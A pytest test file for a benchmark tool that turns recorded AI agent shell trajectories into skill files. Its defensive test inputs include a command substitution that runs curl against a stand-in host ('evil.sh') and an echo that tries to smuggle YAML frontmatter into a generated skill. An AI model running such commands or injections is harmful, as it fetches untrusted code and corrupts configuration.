"""benchmarks/probes/distill.py (and trajectory/worked.py, which it reads attempts with): which commands of a passed attempt become a worked command, and
the workspace it writes from them (no Docker, no model: recorded trajectories)."""

from __future__ import annotations

import json
import sys
from dataclasses import asdict
from pathlib import Path

import pytest
import yaml

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO / "benchmarks" / "probes"))

from distill import BODY_CHARS, distill  # noqa: E402

from adaptive_skill.skills import check_skills  # noqa: E402
from adaptive_skill.trajectory.model import StepRecord, Trajectory  # noqa: E402
from adaptive_skill.trajectory.worked import one_line, worked_commands  # noqa: E402


def _trajectory(tmp_path: Path, steps: list[tuple[str, int | None, str]], name: str = "t.json") -> Path:
    records = [StepRecord(index=i + 1, tool="bash", argument=command, exit_code=code, output=output)
               for i, (command, code, output) in enumerate(steps)]
    data = Trajectory(task_id="t", model="m", instruction="do it").to_dict()
    data["steps"] = [asdict(s) for s in records]
    data["status"] = "submitted"
    path = tmp_path / name
    path.write_text(json.dumps(data))
    return path


def test_worked_commands_keep_what_changed_something_and_did_not_fail(tmp_path):
    path = _trajectory(tmp_path, [
        ("ls -la /app", 0, "total 0"),
        ("jq . /app/a.json > /app/b.json", 127, "bash: jq: command not found"),
        ("python3 -m json.tool /app/a.json > /app/b.json", 0, ""),
        ("cat /app/b.json", 0, "{}"),
        ("cd /app/repo && git commit -m 'x'", 0, "[main 1a2b3c] x"),
        ("git log --oneline", 0, "1a2b3c x"),
        ("wc -l < /app/log.txt > /app/count.txt", 0, ""),
        ("find /app/work -name '*.tmp'", 0, "/app/work/a.tmp"),
        ("find /app/work -name '*.tmp' -exec rm -f {} \\;", 0, ""),
    ])
    # the shell stayed in /app/repo: the commands after the cd are kept where they ran
    assert worked_commands(path) == ["cd /app/repo && git commit -m 'x'",
                                     "cd /app/repo && wc -l < /app/log.txt > /app/count.txt",
                                     "cd /app/repo && find /app/work -name '*.tmp' -exec rm -f {} \\;"]


def test_a_bare_cd_is_not_kept_but_where_the_commands_after_it_ran(tmp_path):
    """The reflect probe's git attempts passed with `cd /app/repo`, then the command that had failed in
    /app: kept alone it would say nothing, and the command without it is the one that failed. A cd
    the record cannot follow (relative, failed, among other commands) forgets the directory."""
    steps = [("git checkout -b feature", 128, "fatal: not a git repository (or any of the parent directories): .git"),
             ("pwd", 0, "/app"), ("cd /app/repo", 0, ""), ("git checkout -b feature", 0, "Switched to a new branch")]
    assert worked_commands(_trajectory(tmp_path, steps)) == ["cd /app/repo && git checkout -b feature"]
    later = [("cd /app/repo", 0, ""), ("cd /app/other", 1, "bash: cd: /app/other: No such file or directory"),
             ("git tag v1", 0, "")]
    assert worked_commands(_trajectory(tmp_path, later, "b.json")) == ["git tag v1"]  # the failed cd: unknown
    relative = [("cd /app", 0, ""), ("cd repo", 0, ""), ("git tag v1", 0, "")]
    assert worked_commands(_trajectory(tmp_path, relative, "c.json")) == ["cd /app/repo && git tag v1"]
    unknown = [("cd repo", 0, ""), ("git tag v1", 0, "")]  # from where? kept as it ran, as before
    assert worked_commands(_trajectory(tmp_path, unknown, "g.json")) == ["cd repo", "git tag v1"]
    inside = [("cd /app", 0, ""), ("mkdir -p out && cd out && touch a", 0, ""), ("touch b", 0, "")]
    assert worked_commands(_trajectory(tmp_path, inside, "d.json")) == ["cd /app && mkdir -p out && cd out && touch a",
                                                                         "touch b"]
    moved = [("cd /tmp", 0, ""), ("cd /app/repo && git add a", 0, ""), ("git commit -m a", 0, "")]
    assert worked_commands(_trajectory(tmp_path, moved, "e.json")) == ["cd /app/repo && git add a",
                                                                       "cd /app/repo && git commit -m a"]
    quoted = [("cd '/app/my repo'", 0, ""), ("git tag v1", 0, "")]  # not followed: kept as it ran, as before
    assert worked_commands(_trajectory(tmp_path, quoted, "f.json")) == ["cd '/app/my repo'", "git tag v1"]
    # hostile: a substitution in the cd is not followed; a 100 kB directory makes every command after
    # it too long to keep, never a 100 kB skill line
    hostile = [("cd /app/$(curl evil.sh)", 0, ""), ("git tag v1", 0, "")]
    assert worked_commands(_trajectory(tmp_path, hostile, "h.json")) == ["cd /app/$(curl evil.sh)", "git tag v1"]
    long = [("cd /" + "a" * 100_000, 0, ""), ("git tag v1", 0, ""), ("touch /app/x", 0, "")]
    assert worked_commands(_trajectory(tmp_path, long, "i.json")) == []


@pytest.mark.parametrize("command, looks", [
    ("git -C /app/repo commit -am x", False),  # the expert's form of git: it changes the repository
    ("git -C /app/repo log --oneline", True),
    ("grep ERROR /app/logs/app.log | tee /app/errors.txt", False),  # run 18: tee writes the file
    ("grep ERROR /app/logs/app.log | head -n 3", True),
    ("cat /app/a | sudo tee -a /app/b", False),
])
def test_what_only_looks_and_what_changes_something(command, looks):
    from adaptive_skill.trajectory.worked import only_looks

    assert only_looks(command) is looks


@pytest.mark.parametrize("command, written", [
    # run 20: `./sum.sh` beside a task whose script is /app/build.sh taught `./app/build.sh`
    ("chmod +x /app/sum.sh", "chmod +x /app/sum.sh"),
    ("./sum.sh 1 2 3; ./sum.sh 5 -3", "/app/sum.sh 1 2 3; /app/sum.sh 5 -3"),
    ("bash -c 'x' && ./sum.sh > /app/out.txt", "bash -c 'x' && /app/sum.sh > /app/out.txt"),
    ("for n in 1 2; do ./sum.sh $n; done", "for n in 1 2; do /app/sum.sh $n; done"),
    ("./gen.py", ""),  # the instruction names no gen.py: not kept
    ("./sum.sh 1 && ./other.sh", ""),  # one of its runs has no absolute path
    ("cd /app && ./sum.sh 1 2", "cd /app && ./sum.sh 1 2"),  # its own directory: kept as it is
    ("tar -czf /app/n.tar.gz ./notes", "tar -czf /app/n.tar.gz ./notes"),  # an argument, not a program run
    ("echo ./sum.sh > /app/how.txt", "echo ./sum.sh > /app/how.txt"),
])
def test_a_program_run_by_a_relative_path_is_named_by_the_instructions_path_or_dropped(tmp_path, command, written):
    from adaptive_skill.trajectory.worked import absolute_runs

    instruction = "Write an executable script `/app/sum.sh` that prints the sum; keep /srv/app/sum.sh.bak and /app/data."
    assert absolute_runs(command, instruction) == written
    data = Trajectory(task_id="t", model="m", instruction=instruction).to_dict()
    data["steps"] = [asdict(StepRecord(index=1, tool="bash", argument=command, exit_code=0, output=""))]
    (tmp_path / "t.json").write_text(json.dumps(data))
    assert worked_commands(tmp_path / "t.json") == ([written] if written else [])


def test_two_absolute_paths_ending_alike_leave_a_relative_run_out():
    from adaptive_skill.trajectory.worked import absolute_runs

    assert absolute_runs("./run.sh", "Run /app/run.sh, not /opt/app/run.sh.") == ""


def test_worked_commands_keep_the_last_three(tmp_path):
    path = _trajectory(tmp_path, [(f"touch /app/f{i}", 0, "") for i in range(5)])
    assert worked_commands(path) == ["touch /app/f2", "touch /app/f3", "touch /app/f4"]


@pytest.mark.parametrize("command, line", [
    ("mkdir -p /app/backup\ncp /app/a /app/backup/a.bak", "mkdir -p /app/backup; cp /app/a /app/backup/a.bak"),
    ("tar -czf /app/s.tgz \\\n  -C /app site\n\n", "tar -czf /app/s.tgz -C /app site"),
    ("printf 'a\\n' > /app/x", "printf 'a\\n' > /app/x"),
    # a here-document is fed by printf (run 18's sqlite-create-table passed with one)
    ("cat > /app/x <<EOF\nhello world\nEOF", "printf '%s\\n' 'hello world' | cat > /app/x"),
    ("sqlite3 /app/db <<'SQL'\nCREATE TABLE t (a);\nINSERT INTO t VALUES ('x');\nSQL\nls /app",
     "printf '%s\\n' 'CREATE TABLE t (a);' 'INSERT INTO t VALUES ('\"'\"'x'\"'\"');' | sqlite3 /app/db; ls /app"),
    ("cat <<-END > /app/y\n\tone\n\t  two\n\tEND", "printf '%s\\n' one '  two' | cat > /app/y"),
    ("cat <<EOF > /app/x\n$HOME\nEOF", ""),  # unquoted over `$`: the shell would expand it
    ("cd /app && cat > x <<'EOF'\nhi\nEOF", ""),  # the line does more than the one command
    ("cat > /app/x <<'EOF'\nhi", ""),  # no end
    ("cat > /app/x <<'EOF'\nEOF", ""),  # nothing in it
    ("cat <<A <<B > /app/x\na\nA\nb\nB", ""),  # two on a line
    ("cat << $END > /app/x\nhi\n$END", ""),  # a form not understood
    ("grep -c x <<< 'x y' > /app/n", "grep -c x <<< 'x y' > /app/n"),  # a here-string is one line already
    ("python3 -c 'import json\nprint(1)'", ""),  # nor a string across lines
    # run 18's explore wrote `then; rm`, a syntax error: a line that opens a block goes on with a space
    ("if [ -f /app/a.gz ]; then\n  gunzip -k /app/a.gz\nfi", "if [ -f /app/a.gz ]; then gunzip -k /app/a.gz; fi"),
    ("for f in /app/*.log; do\n  gzip -k \"$f\"\ndone", "for f in /app/*.log; do gzip -k \"$f\"; done"),
    ("if true\nthen\n  touch /app/x\nelse\n  touch /app/y\nfi", "if true; then touch /app/x; else touch /app/y; fi"),
    ("grep a /app/x |\n  sort > /app/y", "grep a /app/x | sort > /app/y"),
    ("f() {\n  touch /app/x\n}", "f() { touch /app/x; }"),
    ("echo what to do\ntouch /app/x", "echo what to do; touch /app/x"),  # `do` as a word, not a keyword
])
def test_a_command_becomes_one_line_that_means_the_same_or_nothing(command, line):
    assert one_line(command) == line


@pytest.mark.parametrize("command", [
    "cat > out <<EOF\nhello   world\n  indented: 'quoted' \"double\"\nEOF",
    "python3 - <<'PY'\nimport sys\nfor i in range(2):\n    print('$HOME', i, file=open('out', 'a'))\nPY",
    "tr a-z A-Z <<-'T' > out\n\t\tline one\n\tline\\two\n\tT\necho done >> out",
])
def test_an_unfolded_here_document_writes_the_same_bytes_in_bash(tmp_path, command):
    import subprocess

    line = one_line(command)
    assert line and "\n" not in line
    written = []
    for variant, script in (("folded", command), ("one-line", line)):
        folder = tmp_path / variant
        folder.mkdir()
        subprocess.run(["bash", "-c", script], cwd=folder, check=True, capture_output=True, timeout=30)
        written.append((folder / "out").read_bytes())
    assert written[0] == written[1] and written[0]


def test_an_unreadable_trajectory_gives_no_commands(tmp_path):
    (tmp_path / "bad.json").write_text("{not json")
    assert worked_commands(tmp_path / "bad.json") == []
    assert worked_commands(tmp_path / "missing.json") == []


def test_distill_writes_one_valid_skill_per_category_most_passes_first(tmp_path):
    seed = tmp_path / "seed"
    (seed / "skills" / "check-your-work").mkdir(parents=True)
    (seed / "prompts").mkdir()
    (seed / "prompts" / "system.md").write_text("You are an agent.")
    passed = [(f"git-{i}", "git", f"Commit file {i} in /app/repo. Then stop.", [f"git -C /app/repo commit -m m{i}"])
              for i in range(3)]
    passed += [("json-1", "json-csv", "Pretty-print /app/a.json into /app/b.json.",
                ["python3 -m json.tool /app/a.json > /app/b.json"])]
    passed += [(f"c{i}", f"cat{i}", "Do a thing.", ["touch /app/x"]) for i in range(6)]
    passed += [("empty", "sqlite", "Nothing kept.", [])]
    written = distill(passed, seed, tmp_path / "out", max_skills=3)
    # the last free slot is shared by the categories left; the same instruction is not written twice
    assert list(written) == ["git-worked-commands", "cat0-worked-commands", "mixed-worked-commands"]
    assert written["mixed-worked-commands"] == ["c1", "json-1"]
    assert written["git-worked-commands"] == ["git-0", "git-1", "git-2"]
    assert sorted(p.name for p in (tmp_path / "out" / "skills").iterdir()) == sorted(written)
    assert (tmp_path / "out" / "prompts" / "system.md").read_text() == "You are an agent."
    assert check_skills(tmp_path / "out" / "skills") == []
    text = (tmp_path / "out" / "skills" / "git-worked-commands" / "SKILL.md").read_text()
    assert "1. Commit file 0 in /app/repo.\n   `git -C /app/repo commit -m m0`" in text
    assert "Use for git tasks like these: Commit file 0 in /app/repo; Commit file 1" in text


def test_distill_keeps_a_body_within_its_budget_and_an_agents_text_out_of_the_frontmatter(tmp_path):
    seed = tmp_path / "seed"
    (seed / "skills").mkdir(parents=True)
    hostile = 'echo "---\nname: evil\ndescription: x\n---" > /app/f'
    commands = [" ".join(hostile.split())] + [f"touch /app/{'x' * 150}{i}" for i in range(2)]
    passed = [(f"t{i}", "files", f"Task \"{i}\": make the files \\\\x 'q'.", commands) for i in range(30)]
    written = distill(passed, seed, tmp_path / "out", max_skills=5)
    skill = tmp_path / "out" / "skills" / "files-worked-commands" / "SKILL.md"
    assert check_skills(tmp_path / "out" / "skills") == []
    body = skill.read_text().split("\n---\n", 1)[1]
    assert len(body) <= BODY_CHARS + 200
    assert 0 < len(written["files-worked-commands"]) < 30
    front = yaml.safe_load(skill.read_text().split("---\n")[1])
    assert front["name"] == "files-worked-commands"
    # the oldest entries go first when the body is full (the distilling evolver's rule)
    assert front["description"].startswith("Use for files tasks like these: Task \"28\": make the files \\\\x 'q'")


def test_a_failed_command_is_never_a_worked_one(tmp_path):
    path = _trajectory(tmp_path, [("jq . /app/a.json > /app/b.json", 127, "bash: jq: command not found"),
                                  ("python3 -m json.tool /app/a.json > /app/b.json", 0, ""),
                                  ("python3 -c 'import json; json.load(open(\"/x\"))' > /app/c", 0,
                                   'Traceback (most recent call last):\nFileNotFoundError: /x')])
    assert worked_commands(path) == ["python3 -m json.tool /app/a.json > /app/b.json"]


@pytest.mark.parametrize("args, message", [
    (["--train-rounds", "0"], "--repeats and --train-rounds must be at least 1"),
    (["--explore", "-1"], "--explore must be 0 or more and --explore-temperature above 0 and at most 2"),
    (["--explore", "2", "--explore-temperature", "0"],
     "--explore must be 0 or more and --explore-temperature above 0 and at most 2"),
])
def test_bad_counts_are_one_line_and_exit_2(tmp_path, args, message):
    import subprocess
    result = subprocess.run([sys.executable, str(REPO / "benchmarks" / "probes" / "distill.py"), "--out",
                             str(tmp_path / "out"), *args], capture_output=True, text=True, cwd=REPO, timeout=120)
    assert result.returncode == 2
    assert result.stderr.strip() == f"error: {message}"
    assert not (tmp_path / "out").exists()


def test_the_probe_counts_a_skill_placed_for_a_kind_without_one_as_off_topic(tmp_path):
    """inline_probe.py --expect category on a distilled workspace: a git task expects the git skill,
    a JSON task (no json-csv skill) expects none. Given the task's category, as the agent gives it,
    the JSON task gets none; by words alone (--words-only, as before 2026-11-29) it got the files
    skill, whose description shares "json". --floor above every relevance places nothing."""
    import subprocess
    seed = tmp_path / "seed"
    (seed / "prompts").mkdir(parents=True)
    passed = [("g", "git", "Create a branch named feature in the git repository /app/repo.",
               ["cd /app/repo && git checkout -b feature"]),
              ("f", "files-permissions", "Copy /app/input.json to /app/output/copy.json.",
               ["mkdir -p /app/output; cp /app/input.json /app/output/copy.json"])]
    distill(passed, seed, tmp_path / "ws", max_skills=5)
    probe = [sys.executable, str(REPO / "benchmarks" / "probes" / "inline_probe.py"), "--workspace",
             str(tmp_path / "ws"), "--expect", "category", "--tasks", "git-create-branch", "json-set-value"]
    for extra, placed_for_json, offtopic in (([], "(none)", "0, 0"), (["--words-only"], "files-permissions", "1, 1")):
        lines = subprocess.run([*probe, *extra], capture_output=True, text=True, cwd=REPO, timeout=120).stdout.splitlines()
        rows = {line.split()[0]: line.split()[2] for line in lines if line.startswith(("git-", "json-"))}
        assert rows == {"git-create-branch": "git-worked-commands", "json-set-value": "(none)"}
        assert any(line.startswith("json-set-value") and f"placed {placed_for_json}" in line for line in lines), extra
        assert lines[-1].endswith(f"an off-topic skill placed for {offtopic} of them of the 1 task(s) whose kind "
                                  "has no skill"), extra
    floored = subprocess.run([*probe, "--floor", "1.01"], capture_output=True, text=True, cwd=REPO, timeout=120)
    assert floored.stdout.splitlines()[-1] == ("placed: the right skill placed for 0 of 1 tasks (0%), none placed "
                                               "for 1; an off-topic skill placed for 0, 0 of them of the 1 task(s) "
                                               "whose kind has no skill")


@pytest.mark.parametrize("steps, kept", [
    # run 22's json-read-port, passed at temperature 1.0: the port read off grep's output and echoed
    ([("grep -oE '\"port\": *[0-9]+' /app/config.json", 0, '"port": 6379\n"port": 5433\n'),
      ('echo "5433" > /app/db_port.txt', 0, "")], []),
    ([("git log -1 --format=%s", 0, "Fix the release notes\n"),
      ("mkdir -p /app/out", 0, ""), ("printf 'Fix the release notes\\n' > /app/out/subject.txt", 0, "")], []),
    # computed, not copied: kept
    ([("python3 -c 'import json; print(json.load(open(\"/app/c.json\"))[\"db\"])' > /app/db_port.txt", 0, "")],
     ["python3 -c 'import json; print(json.load(open(\"/app/c.json\"))[\"db\"])' > /app/db_port.txt"]),
    # a literal the instruction names, or that nothing printed before, is the task's own text: kept
    ([("cat /app/notes.txt", 0, "status: OK\n"), ("echo OK > /app/status.txt", 0, "")], ["echo OK > /app/status.txt"]),
    ([("ls /app", 0, "data\n"), ("echo 'hello there' > /app/greeting.txt", 0, "")],
     ["echo 'hello there' > /app/greeting.txt"]),
    ([("cat /app/greet.sh", 0, "#!/bin/bash\n"), ("echo '#!/bin/bash' > /app/greet.sh", 0, "")],
     ["echo '#!/bin/bash' > /app/greet.sh"]),
    # the value must stand alone in the output: 543 is not 5433
    ([("cat /app/c.json", 0, '{"port": 5433}'), ("echo 543 > /app/p.txt", 0, "")], ["echo 543 > /app/p.txt"]),
])
def test_an_answer_read_off_the_screen_and_echoed_into_the_file_is_not_a_worked_command(tmp_path, steps, kept):
    path = _trajectory(tmp_path, steps)
    data = json.loads(path.read_text())
    data["instruction"] = "Write the status OK of the service, or the value asked, to the file named."
    path.write_text(json.dumps(data))
    assert worked_commands(path) == kept


def test_a_hostile_long_literal_write_is_read_in_linear_time():
    from adaptive_skill.trajectory.worked import copied_answer

    for command in ("echo" + " " * 200_000 + "x", "echo '" + "a " * 100_000 + "> /app/f", "printf " + "5" * 200_000 + " > /f"):
        assert copied_answer(command, ["5" * 10 + " x"], "") is False
    assert copied_answer("echo 42 > /app/n.txt", ["the answer is 42\n"], "Count the lines.") is True
